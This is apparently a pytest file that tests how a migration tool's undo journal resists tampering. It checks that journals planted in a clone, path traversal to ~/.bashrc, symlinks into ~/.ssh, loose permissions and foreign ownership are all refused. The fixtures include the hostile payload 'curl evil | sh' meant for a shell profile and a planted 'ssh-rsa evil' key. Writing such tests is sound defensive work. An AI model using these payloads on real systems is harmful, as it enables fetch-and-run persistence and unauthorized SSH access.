"""Kind: a file of the checkout that says what is written where. Only what this user's own apply noted counts."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from pathlib import Path

import pytest
from attacked import IS_ROOT, WORKER, Place


def planted(folder: Path, entries: list[tuple[str, bytes | None, bytes]]) -> None:
    """Write a journal of version 0.1, as an attacker would."""
    folder.mkdir(parents=True, exist_ok=True)
    data = json.dumps({"format": 1, "version": "0.1.0"}).encode() + b"\n"
    for path, before, after in entries:
        old = before or b""
        line = {
            "path": path,
            "size": len(old),
            "before": None if before is None else hashlib.sha256(old).hexdigest(),
            "after": hashlib.sha256(after).hexdigest(),
        }
        data += json.dumps(line).encode() + b"\n" + old + b"\n"
    (folder / "journal").write_bytes(data)


def test_a_journal_that_came_with_the_clone_writes_nothing(place: Place) -> None:
    profile = place.home / ".bashrc"
    profile.write_bytes(b"# mine\n")
    planted(place.clone / ".workerlog-migrate", [("../home/.bashrc", b"curl evil | sh\n", b"# mine\n")])

    undone = place.run("--undo")

    assert profile.read_bytes() == b"# mine\n"
    assert undone.returncode == 0
    assert ".workerlog-migrate/ is not read" in undone.stderr
    assert "nothing to undo" in undone.stderr


def test_a_journal_that_came_with_the_clone_removes_nothing(place: Place) -> None:
    keys = place.home / "keys"
    keys.write_bytes(b"mine\n")
    planted(place.clone / ".workerlog-migrate", [(str(keys), None, b"mine\n")])

    place.run("--undo")

    assert keys.read_bytes() == b"mine\n"


def test_no_link_in_the_clone_takes_an_old_text_elsewhere(place: Place) -> None:
    """`.workerlog-migrate/before` as a link to ~/.ssh."""
    (place.home / ".ssh").mkdir()
    planted(place.clone / ".workerlog-migrate", [("authorized_keys", b"ssh-rsa evil\n", b"?")])
    (place.clone / "authorized_keys").write_bytes(b"edited\n")
    (place.clone / ".workerlog-migrate" / "before").symlink_to(place.home / ".ssh")

    place.run("--undo")

    assert list((place.home / ".ssh").iterdir()) == []


def test_apply_touches_nothing_that_a_link_in_the_clone_leads_to(place: Place) -> None:
    """`.workerlog-migrate -> ../victim`, which holds a folder and a file of the names that were ours."""
    (place.victim / "before").mkdir()
    (place.victim / "before" / "thesis.txt").write_bytes(b"years\n")
    (place.victim / "journal").write_bytes(b"diary\n")
    (place.clone / ".workerlog-migrate").symlink_to("../victim")

    applied = place.run("--apply")
    place.run("--undo")

    assert applied.returncode == 0, applied.stderr
    assert ".workerlog-migrate/ is not read" in applied.stderr
    assert sorted(path.name for path in place.victim.iterdir()) == ["before", "journal"]
    assert (place.victim / "journal").read_bytes() == b"diary\n"
    assert (place.victim / "before" / "thesis.txt").read_bytes() == b"years\n"
    assert place.script.read_text() == WORKER


def test_twin_the_undo_of_our_own_apply_holds_also_files_outside_the_current_folder(place: Place) -> None:
    outside = place.victim / "zero_b.py"
    outside.write_text(WORKER, encoding="utf-8")

    place.run("--apply", "scripts", str(outside))
    assert "mirror_print" in outside.read_text()
    undone = place.run("--undo")

    assert undone.returncode == 0, undone.stderr
    assert outside.read_text() == WORKER
    assert [path.name for path in place.victim.iterdir()] == ["zero_b.py"]


def test_nothing_is_kept_among_the_scripts_and_what_is_kept_is_private(place: Place) -> None:
    place.run("--apply")

    assert sorted(path.name for path in place.clone.rglob("*")) == [
        "pyproject.toml",
        "scripts",
        "worker_logger.py",
        "worker_utils.py",
        "zero_worker.py",
    ]
    journal = next(path for path in place.states() if path.name == "journal")
    assert journal.stat().st_mode & 0o777 == 0o600
    for folder in journal.parents[:3]:
        assert folder.stat().st_mode & 0o777 == 0o700


@pytest.mark.parametrize("umask", [0o000, 0o002, 0o077])
def test_the_umask_does_not_decide_who_can_write_the_undo(place: Place, umask: int) -> None:
    before = os.umask(umask)
    try:
        place.run("--apply")
        undone = place.run("--undo")
    finally:
        os.umask(before)

    assert undone.returncode == 0, undone.stderr
    assert place.script.read_text() == WORKER


@pytest.mark.parametrize("what", ["journal", "folder"])
def test_an_undo_that_others_can_write_to_is_none(place: Place, what: str) -> None:
    place.run("--apply")
    after = place.script.read_bytes()
    journal = next(path for path in place.states() if path.name == "journal")
    (journal if what == "journal" else journal.parent).chmod(0o666 if what == "journal" else 0o777)

    undone = place.run("--undo")

    assert undone.returncode == 2
    assert str(journal.parent) in undone.stderr
    assert place.script.read_bytes() == after


@pytest.mark.skipif(not IS_ROOT, reason="only root can give a file to somebody else")
def test_an_undo_that_somebody_else_owns_is_none(place: Place) -> None:
    place.run("--apply")
    after = place.script.read_bytes()
    journal = next(path for path in place.states() if path.name == "journal")
    os.chown(journal, 1234, 1234)

    assert place.run("--undo").returncode == 2
    assert place.script.read_bytes() == after


def test_a_moved_project_is_told_where_it_was(place: Place) -> None:
    place.run("--apply")
    after = place.script.read_bytes()
    elsewhere = place.clone.rename(place.clone.parent / "moved")

    undone = place.run("--undo", cwd=elsewhere)

    assert undone.returncode == 2
    assert f"the last --apply was run when this folder was {place.clone}; move it back" in undone.stderr
    assert (elsewhere / "scripts" / "zero_worker.py").read_bytes() == after
    elsewhere.rename(place.clone)
    assert place.run("--undo").returncode == 0
    assert place.script.read_text() == WORKER


def test_a_second_clone_at_the_same_path_is_another_project(place: Place) -> None:
    place.run("--apply")
    migrated = place.script.read_bytes()
    place.clone.rename(place.clone.parent / "first")  # keeps its inode from being used again
    shutil.copytree(place.clone.parent / "first", place.clone)

    undone = place.run("--undo")

    assert "nothing to undo" in undone.stderr
    assert place.script.read_bytes() == migrated


def test_what_belongs_to_folders_that_are_gone_is_removed_by_the_next_apply(place: Place) -> None:
    place.run("--apply")
    kept = {path.parent for path in place.states()}
    other = place.clone.parent / "other"
    (other / "scripts").mkdir(parents=True)
    (other / "scripts" / "zero_c.py").write_text(WORKER, encoding="utf-8")
    place.run("--apply", cwd=other)
    assert len({path.parent for path in place.states()}) == 2
    shutil.rmtree(other)
    third = place.clone.parent / "third"
    (third / "scripts").mkdir(parents=True)
    (third / "scripts" / "zero_d.py").write_text(WORKER, encoding="utf-8")

    place.run("--apply", cwd=third)

    now = {path.parent for path in place.states()}
    assert len(now) == 2
    assert kept < now
    assert place.run("--undo").returncode == 0
    assert place.script.read_text() == WORKER


@pytest.mark.parametrize("home", ["relative", "/proc/no/home"], ids=["no home", "read-only"])
def test_where_no_undo_can_be_kept_apply_says_so_and_needs_the_word(place: Place, home: str) -> None:
    applied = place.run("--apply", HOME=home)

    assert applied.returncode == 2
    assert "no undo can be kept: " in applied.stderr
    assert "--no-undo" in applied.stderr
    assert place.script.read_text() == WORKER
    assert sorted(path.name for path in place.script.parent.iterdir()) == ["zero_worker.py"]

    forced = place.run("--apply", "--no-undo", HOME=home)

    assert forced.returncode == 0, forced.stderr
    assert "mirror_print" in place.script.read_text()
    assert "to take it back" not in forced.stderr


def test_no_undo_goes_with_apply_only(place: Place) -> None:
    assert "it goes with --apply" in place.run("--no-undo").stderr
    assert place.run("--no-undo", "--undo").returncode == 2


@pytest.mark.skipif(not IS_ROOT, reason="only root can run as another user")
def test_nothing_is_made_in_the_home_of_another_user(place: Place) -> None:
    """As under a sudo that keeps HOME."""
    os.chown(place.home, 1234, 1234)

    applied = place.run("--apply")

    assert applied.returncode == 2
    assert "belongs to another user" in applied.stderr
    assert list(place.home.iterdir()) == []
    assert place.script.read_text() == WORKER
